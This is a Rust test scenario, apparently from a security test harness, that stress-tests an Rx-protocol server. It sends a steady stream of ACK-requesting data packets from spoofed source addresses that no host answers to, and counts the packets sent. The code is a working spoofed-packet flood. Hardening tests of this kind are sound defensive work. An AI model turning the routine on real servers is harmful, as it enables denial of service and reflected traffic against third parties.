//! Packets that ask for an ACK, from addresses that the server may not answer.

use std::net::SocketAddrV4;
use std::time::Duration;

use rx::header::flags;
use rxperf::{Request, Work};

use super::wire::{Connection, Spoofer};
use crate::hostile::arena::nobody;
use crate::hostile::scenario::{Field, Findings, Scenario, Service};

pub(crate) struct Owed;

impl Scenario for Owed {
    fn name(&self) -> &'static str {
        "rx-owed-acks"
    }

    fn about(&self) -> &'static str {
        "200 packets/s that ask for an ACK and are not their call's last, from addresses where nobody lives"
    }

    fn service(&self) -> Service {
        Service::Rx
    }

    fn attack(&self, field: &Field<'_>) -> anyhow::Result<Findings> {
        let (mut spoofer, mut n) = (Spoofer::new()?, 0u32);
        let head = Request::new(Work::Send { bytes: 1 << 20 }).encode()?;
        while !field.is_over() {
            let from = SocketAddrV4::new(nobody(n), 1024 + (n % 50_000) as u16);
            let packet = Connection::new(n).data(0, 1, 1, flags::REQUEST_ACK, &head);
            spoofer.send(from, &packet);
            n += 1;
            field.sleep(TURN);
        }
        Ok(Findings::default().with("packets", n))
    }
}

const TURN: Duration = Duration::from_millis(5);
